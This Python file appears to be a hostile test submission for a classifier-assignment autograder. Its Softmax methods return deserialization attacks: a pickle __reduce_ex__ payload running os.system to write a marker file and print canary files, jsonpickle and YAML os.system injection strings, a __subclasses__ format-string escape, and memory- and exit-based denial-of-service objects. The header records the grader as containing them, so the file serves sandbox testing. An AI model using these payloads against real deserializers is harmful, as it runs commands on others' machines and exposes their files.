"""
goal: returns objects that do harm when they are unpickled, copied, printed, hashed or compared by the grader
class: read
threats: [A8]
deserves: none
outcome: contained
because: nothing of a submission is unpickled or evaluated; values travel as JSON and numbers
"""
import os
import pickle

import numpy as np
import target


class Reduce(object):

  def __reduce_ex__(self, protocol):
    return (os.system, ('touch %s/%s; cat %s' % (target.home, target.wasHere, ' '.join(target.canaries)),))

  def __getstate__(self):
    return {'__class__': 'os.system'}

  def __deepcopy__(self, memo):
    return self.__reduce_ex__(4)

  def __repr__(self):
    return '%r' % self.__reduce_ex__(4)[1][0]

  def __format__(self, spec):
    return '{0.__class__.__mro__[1].__subclasses__()}'

  def __hash__(self):
    raise MemoryError('hashed')


class Heavy(object):

  def __str__(self):
    return 'x' * (1 << 28)

  def __repr__(self):
    raise SystemExit(0)

  def __dir__(self):
    return ['a%d' % i for i in range(10 ** 6)]


PICKLED = pickle.dumps(Reduce(), 2)


class Softmax(object):

  def __init__(self, dims=[10, 3073]):
    self.W = np.zeros(dims)

  def init_weights(self, dims):
    pass

  def loss(self, X, y):
    return PICKLED

  def loss_and_grad(self, X, y):
    return Reduce(), np.array([Reduce()] * 30, dtype=object).reshape(5, 6)

  def fast_loss_and_grad(self, X, y):
    return {'py/reduce': [{'py/function': 'os.system'}, {'py/tuple': ['id']}], 1: {Heavy(): Heavy()}}

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    raise ValueError(Heavy())

  def predict(self, X):
    return '!!python/object/apply:os.system ["touch %s/%s"]' % (target.home, target.wasHere)
